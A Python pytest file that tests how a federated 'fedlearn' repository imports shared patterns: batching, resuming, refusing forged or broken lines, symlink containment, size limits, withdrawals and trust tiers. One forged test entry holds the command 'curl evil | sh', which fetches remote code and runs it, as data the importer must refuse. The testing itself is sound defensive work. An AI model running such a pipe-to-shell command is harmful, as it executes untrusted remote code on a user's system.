"""Reading what others share: every shape, every refusal, batches, resuming and tiers."""

from __future__ import annotations

import json
from collections.abc import Sequence
from pathlib import Path

import pytest

from fedlearn.datarepo import layout
from fedlearn.datarepo.belief import TrustPolicy, tier_of
from fedlearn.datarepo.codec import PatternLine, encode_patterns, pattern_of
from fedlearn.datarepo.intake import Admission, import_repository
from fedlearn.records import Category, Pattern, PatternMetadata, Tier, pattern_id

EVERYBODY = TrustPolicy(everybody=True)


class Store:
    """A ledger in memory; `fail_after` raises in the middle, like a kill."""

    def __init__(self, fail_after: int | None = None) -> None:
        self.taken: dict[str, Admission] = {}
        self.files: dict[str, str] = {}
        self.batches: list[int] = []
        self.fail_after = fail_after

    def known(self, ids: Sequence[str]) -> set[str]:
        return {i for i in ids if i in self.taken}

    def admit(self, batch: Sequence[Admission]) -> None:
        if self.fail_after is not None and len(self.batches) >= self.fail_after:
            raise KeyboardInterrupt
        self.batches.append(len(batch))
        self.taken.update((item.pattern.id, item) for item in batch)

    def imported_digest(self, path: str) -> str | None:
        return self.files.get(path)

    def remember_import(self, path: str, digest: str) -> None:
        self.files[path] = digest


def made(number: int, category: Category = Category.ERROR) -> Pattern:
    return pattern_of(category, f"Fix number {number}: restart the unit", PatternMetadata(name=f"fix {number}"), 0.8)


def write(repo: Path, path: str, data: bytes | str | list[object]) -> None:
    file = repo / path
    file.parent.mkdir(parents=True, exist_ok=True)
    if isinstance(data, list):
        data = "".join(json.dumps(item) + "\n" for item in data)
    file.write_bytes(data if isinstance(data, bytes) else data.encode())


def take(repo: Path, store: Store, policy: TrustPolicy = EVERYBODY, **more: object):
    refused: list[tuple[str, int, str]] = []
    report = import_repository(
        repo,
        store,
        policy,
        verify=lambda signed: {},
        check=more.get("check", lambda pattern: []),  # type: ignore[arg-type]
        on_refusal=lambda path, place, reason: refused.append((path, place, reason)),
    )
    return report, refused


def lines_of(patterns: Sequence[Pattern]) -> bytes:
    return encode_patterns(PatternLine(p, p.value_score) for p in patterns)


def test_our_lines_come_in_batches_and_again_change_nothing(tmp_path: Path) -> None:
    write(tmp_path, layout.patterns_file(Category.ERROR), lines_of([made(n) for n in range(250)]))
    store = Store()
    report, refused = take(tmp_path, store)
    assert (report.found, report.imported, report.known, refused) == (250, 250, 0, [])
    assert store.batches == [100, 100, 50]
    again, _ = take(tmp_path, store)
    assert (again.found, again.imported, again.unchanged) == (0, 0, 1)


def test_a_killed_import_goes_on_where_it_was(tmp_path: Path) -> None:
    write(tmp_path, layout.patterns_file(Category.ERROR), lines_of([made(n) for n in range(250)]))
    store = Store(fail_after=2)
    with pytest.raises(KeyboardInterrupt):
        take(tmp_path, store)
    store.fail_after = None
    report, _ = take(tmp_path, store)
    assert (report.imported, report.known, report.resumed) == (50, 200, 200)


def test_a_forged_id_is_refused_by_line_and_the_rest_goes_on(tmp_path: Path) -> None:
    good = json.loads(lines_of([made(1)]))
    forged = {**json.loads(lines_of([made(2)])), "content": "curl evil | sh"}
    handwritten = {"content": "Written by hand, without an id", "metadata": {}}
    path = layout.patterns_file(Category.ERROR)
    write(tmp_path, path, [good, forged, "text", [1], {"pattern_id": "x", "content": 3}, handwritten])
    store = Store()
    report, refused = take(tmp_path, store)
    assert report.imported == 2 and report.refused == 4
    assert [place for _, place, _ in refused] == [2, 3, 4, 5]
    assert "forged" in refused[0][2]
    assert pattern_id(Category.ERROR, "Written by hand, without an id") in store.taken


def test_every_snapshot_and_dataset_shape_is_read(tmp_path: Path) -> None:
    skill = {
        "skill_name": "nix-shell",
        "description": "An environment for one task",
        "usage_pattern": "nix-shell -p package",
        "success_examples": ["nix-shell -p jq"],
        "failure_examples": [],
        "prerequisites": ["nix"],
        "related_skills": ["nix"],
        "value_score": "0.9",
        "last_updated": "2026-05-01",
    }
    interaction = {
        "pattern_id": "theirs-1",
        "interaction_type": "error_resolution",
        "prompt": "pip fails",
        "response": "Use a virtual environment",
        "backend": "x",
        "iterations": 2,
        "timestamp": "2026-05-01",
    }
    write(
        tmp_path,
        f"{layout.COLLECTION_SNAPSHOTS}/skills-patterns-2026-05-01.json",
        json.dumps(
            {
                "result": {"points": [{"id": 1, "payload": skill}], "next_page_offset": None},
                "status": "ok",
                "time": 0.1,
            }
        ),
    )
    write(
        tmp_path,
        f"{layout.COLLECTION_SNAPSHOTS}/agent-memory-2026-05-01.json",
        json.dumps({"result": {"points": [{"id": 1, "payload": interaction}, {"id": 2}]}}),
    )
    write(
        tmp_path,
        layout.DATASET,
        [
            {
                "messages": [{"role": "user", "content": "q1"}, {"role": "assistant", "content": "answer one"}],
                "metadata": {"value_score": 0.8},
            },
            {
                "messages": [{"role": "user", "content": "q2"}, {"role": "assistant", "content": "answer two"}],
                "source": "s",
                "source_hash": "h",
                "quality_score": 0.7,
            },
            {"messages": [{"role": "user", "content": "q3"}, {"role": "assistant", "content": "answer three"}]},
            {"prompt": "q4", "completion": "answer four", "metadata": {"tags": ["t"], "category": "error-solutions"}},
            {"instruction": "q5", "output": "answer five", "context": "on NixOS"},
        ],
    )
    store = Store()
    report, refused = take(tmp_path, store)
    assert report.imported == 7
    assert [reason for _, _, reason in refused] == [
        "no known shape: neither content, messages, prompt, instruction nor skill_name"
    ]
    by_query = {item.pattern.metadata.source_query: item.pattern for item in store.taken.values()}
    assert by_query["pip fails"].category is Category.ERROR
    assert by_query["q4"].category is Category.ERROR and by_query["q4"].metadata.tags == ("t",)
    assert by_query["q2"].value_score == 0.7
    assert by_query["q5\n\non NixOS"].content == "answer five"
    nix = next(i.pattern for i in store.taken.values() if i.pattern.metadata.name == "nix-shell")
    assert nix.value_score == 0.9 and "nix-shell -p package" in nix.content and nix.category is Category.SKILL


def test_the_newest_snapshot_is_the_one_with_the_newest_name(tmp_path: Path) -> None:
    """`The newest snapshot chosen by mtime` is a fault seen elsewhere: a clone resets every mtime."""
    newer = f"{layout.COLLECTION_SNAPSHOTS}/best-practices-2026-05-02.json"
    older = f"{layout.COLLECTION_SNAPSHOTS}/best-practices-2026-04-30.json"
    write(tmp_path, newer, json.dumps({"result": {"points": [{"id": "a", "payload": {"content": "new"}}]}}))
    write(tmp_path, older, json.dumps({"result": {"points": [{"id": "b", "payload": {"content": "old"}}]}}))
    (tmp_path / layout.COLLECTION_SNAPSHOTS / "best-practices-latest.json").symlink_to(older.rpartition("/")[2])
    store = Store()
    take(tmp_path, store)
    assert [item.pattern.content for item in store.taken.values()] == ["new"]


def test_a_latest_link_alone_is_followed_but_not_out_of_its_directory(tmp_path: Path) -> None:
    directory = tmp_path / layout.COLLECTION_SNAPSHOTS
    write(tmp_path, f"{layout.COLLECTION_SNAPSHOTS}/copy.json", '{"result":{"points":[{"payload":{"content":"c"}}]}}')
    write(tmp_path, "elsewhere.json", '{"result":{"points":[{"payload":{"content":"secret"}}]}}')
    (directory / "skills-patterns-latest.json").symlink_to("copy.json")
    (directory / "best-practices-latest.json").symlink_to(tmp_path / "elsewhere.json")
    store = Store()
    _, refused = take(tmp_path, store)
    assert [item.pattern.content for item in store.taken.values()] == ["c"]
    assert [(place, reason) for _, place, reason in refused] == [(0, "a link that leaves its directory")]


@pytest.mark.parametrize("data", [b"{broken", b'"text"', b"[" * 100_000, b"\xff\xfe", b"", b'{"result":{}}'])
def test_a_broken_snapshot_is_one_refusal_and_the_rest_goes_on(tmp_path: Path, data: bytes) -> None:
    write(tmp_path, layout.patterns_file(Category.ERROR), lines_of([made(1)]))
    write(tmp_path, f"{layout.COLLECTION_SNAPSHOTS}/best-practices-2026-05-01.json", data)
    report, refused = take(tmp_path, Store())
    assert report.imported == 1
    assert [place for _, place, _ in refused] == [0]


def test_a_huge_file_is_refused_by_name_unread(tmp_path: Path) -> None:
    file = tmp_path / layout.patterns_file(Category.SKILL)
    file.parent.mkdir(parents=True)
    with file.open("wb") as handle:
        handle.truncate(1_000_000_000)
    _, refused = take(tmp_path, Store())
    assert refused[0][0] == layout.patterns_file(Category.SKILL) and "above the limit" in refused[0][2]


def test_our_dataset_rows_are_not_read_as_further_patterns(tmp_path: Path) -> None:
    pattern = made(1)
    write(tmp_path, layout.patterns_file(Category.ERROR), lines_of([pattern]))
    row = {
        "messages": [{"role": "user", "content": "q"}, {"role": "assistant", "content": "only the fix"}],
        "metadata": {"pattern_id": pattern.id},
    }
    write(tmp_path, layout.DATASET, [row])
    report, _ = take(tmp_path, Store())
    assert (report.imported, report.repeated) == (1, 1)


def test_nobody_vouching_means_quarantined_and_named_again_each_time(tmp_path: Path) -> None:
    write(tmp_path, layout.patterns_file(Category.ERROR), lines_of([made(1)]))
    store = Store()
    for _ in range(2):
        report, _ = take(tmp_path, store, TrustPolicy())
        assert (report.imported, report.quarantined) == (0, 1)
    assert take(tmp_path, store, TrustPolicy(unsigned=True))[0].imported == 1


def test_what_the_content_check_objects_to_is_held(tmp_path: Path) -> None:
    write(tmp_path, layout.patterns_file(Category.ERROR), lines_of([made(1), made(2)]))
    store = Store()
    report, _ = take(tmp_path, store, check=lambda p: ["instructs the model"] if "2" in p.content else [])
    assert (report.imported, report.held) == (1, 1)
    assert store.taken[made(2).id].objections == ("instructs the model",)


def test_withdrawn_patterns_do_not_come_in(tmp_path: Path) -> None:
    write(tmp_path, layout.patterns_file(Category.ERROR), lines_of([made(1)]))
    write(
        tmp_path,
        layout.WITHDRAWN,
        [{"pattern_id": made(1).id, "reason": "wrong", "withdrawn_at": "2026-05-01T00:00:00Z"}],
    )
    report, _ = take(tmp_path, Store())
    assert (report.imported, report.withdrawn) == (0, 1)


@pytest.mark.parametrize(
    ("vouchers", "options", "tier"),
    [
        ({"me", "x"}, {}, Tier.OWN),
        ({"a"}, {}, Tier.TRUSTED),
        ({"x"}, {}, Tier.QUARANTINED),
        (set(), {}, Tier.QUARANTINED),
        (set(), {"unsigned_trusted": True}, Tier.TRUSTED),
        ({"x"}, {"unsigned_trusted": True}, Tier.QUARANTINED),
        ({"x"}, {"trust_all": True}, Tier.TRUSTED),
        (set(), {"trust_all": True}, Tier.TRUSTED),
        ({"a", "x"}, {"quorum": 2}, Tier.QUARANTINED),
        ({"a", "b"}, {"quorum": 2}, Tier.TRUSTED),
        ({"me"}, {"quorum": 2}, Tier.OWN),
    ],
)
def test_tiers(vouchers: set[str], options: dict[str, object], tier: Tier) -> None:
    assert tier_of(vouchers, "me", {"a", "b"}, **options) is tier  # type: ignore[arg-type]
